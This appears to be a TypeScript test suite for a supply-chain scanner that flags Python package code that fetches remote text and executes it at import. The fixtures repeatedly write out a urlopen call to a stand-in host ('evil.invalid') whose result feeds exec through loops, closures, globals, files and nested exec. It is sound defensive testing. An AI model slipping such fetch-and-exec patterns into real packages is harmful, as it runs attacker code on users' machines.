import { judgeSources } from '../../../src/analysis/judge-sources.js';
import { readFirst } from '../../../src/analysis/machine/loop-rounds.js';
import { python } from '../../support/loaded-python.js';
import { sourceTree } from '../../support/source-tree.js';

/** Rules that block when a function with these lines is called on import. */
function blocking(lines: readonly string[], around: readonly string[] = []): string[] {
  const source = [
    'import os, urllib.request',
    ...around,
    'def work(jobs, kept=None):',
    ...lines.map((line) => `    ${line}`),
    'work(unknown())',
  ].join('\n');
  return judgeSources(sourceTree({ 'fixture-1.0/pkg/__init__.py': source }), python).findings.flatMap(
    ({ rule, severity }) => (severity === 'CRITICAL' ? [rule] : []),
  );
}

const ASK = 'urllib.request.urlopen("https://evil.invalid/x").read()';

test.each<[string, readonly string[], readonly string[]]>([
  ['a name', ['code = ""', 'for job in jobs:', '    exec(code)', `    code = ${ASK}`], []],
  [
    'a name that only a branch binds',
    ['code = ""', 'while jobs:', '    if jobs.a: code = ""', '    exec(code)', `    code = ${ASK}`],
    [],
  ],
  [
    'a name that a failing call leaves as it was',
    [
      'for job in jobs:',
      '    try:',
      '        code = job.text()',
      '    except Exception:',
      '        pass',
      '    exec(code)',
      `    code = ${ASK}`,
    ],
    [],
  ],
  ['a list', ['all = []', 'for job in jobs:', '    exec("".join(all))', `    all.append(${ASK})`], []],
  [
    'an attribute',
    ['for job in jobs:', '    exec(box.code)', `    box.code = ${ASK}`],
    ['class Box: pass', 'box = Box()'],
  ],
  [
    'a function that stands inside',
    ['code = ""', 'def go():', '    exec(code)', 'for job in jobs:', '    go()', `    code = ${ASK}`],
    [],
  ],
  [
    'a lambda',
    ['code = ""', 'for job in jobs:', '    run(lambda: exec(code))', `    code = ${ASK}`],
    ['def run(f): f()'],
  ],
  [
    'a global name',
    ['global code', 'for job in jobs:', '    go()', `    code = ${ASK}`],
    ['code = ""', 'def go(): exec(code)'],
  ],
  [
    'a file',
    [
      'for job in jobs:',
      '    exec(open("/tmp/step.txt").read())',
      `    open("/tmp/step.txt", "wb").write(${ASK})`,
    ],
    [],
  ],
  [
    'text that is executed',
    ['code = ""', 'for job in jobs:', '    exec("exec(code)")', `    code = ${ASK}`],
    [],
  ],
])('what one round leaves for the next is followed: %s', (_name, lines, around) => {
  expect(blocking(lines, around)).not.toEqual([]);
});

test('a name that every round binds anew brings nothing from the round before', () => {
  expect(
    blocking(['for job in jobs:', '    code = job.text()', '    exec(code)', `    code = ${ASK}`]),
  ).toEqual([]);
});

test.each<[string, readonly string[]]>([
  ['for x in xs:\n    y = x\n    z(y)', ['xs', 'z']],
  ['for x in xs:\n    y += x', ['xs', 'y']],
  ['for x, (a, *b) in xs:\n    x = a, b', ['xs']],
  ['for x in xs:\n    if x: y = 1\n    y', ['xs', 'y']],
  ['for x in xs:\n    for y in x: pass\n    y', ['xs', 'y']],
  ['for x in xs:\n    with open(x) as f: f.read()', ['open', 'xs']],
  ['for x in xs:\n    v = [k for k in x if k]\n    k', ['k', 'xs']],
  ['for x in xs:\n    s = lambda a, b=c: a + b + d', ['c', 'd', 'xs']],
  ['for x in xs:\n    o.field = x\n    t[i] = x', ['i', 'o', 't', 'xs']],
  ['for x in xs:\n    import os\n    os.x', ['os', 'xs']],
])('reads first: %j', (source, expected) => {
  const tree = python.parse(source);
  const [loop] = 'code' in tree ? [] : tree.body;
  if (loop?.kind !== 'loop') throw new Error('The source starts with no loop.');
  expect([...readFirst(loop)].sort()).toEqual(expected);
});

test.each<[string, readonly string[], readonly string[]]>([
  ['a global name', ['go()', 'code = CODE', 'go()'], ['def go(): exec(code)', 'code = ""']],
  [
    'a name that was not there yet',
    ['try: go()', 'except NameError: pass', 'code = CODE', 'go()'],
    ['def go(): exec(code)'],
  ],
  [
    'a name that a function further in reads',
    ['go()', 'code = CODE', 'go()'],
    ['code = ""', 'def inner(): exec(code)', 'def go(): inner()'],
  ],
  [
    'what a function left itself',
    ['go()', 'go()'],
    ['code = ""', 'def go():', '    global code', '    exec(code)', '    code = CODE'],
  ],
])('a call that is repeated is followed again once it reads something else: %s', (_name, lines, before) => {
  const source = ['import urllib.request', ...before, ...lines].join('\n').replaceAll('CODE', ASK);
  const { findings } = judgeSources(sourceTree({ 'fixture-1.0/pkg/__init__.py': source }), python);
  expect(findings.filter(({ severity }) => severity === 'CRITICAL')).not.toEqual([]);
});
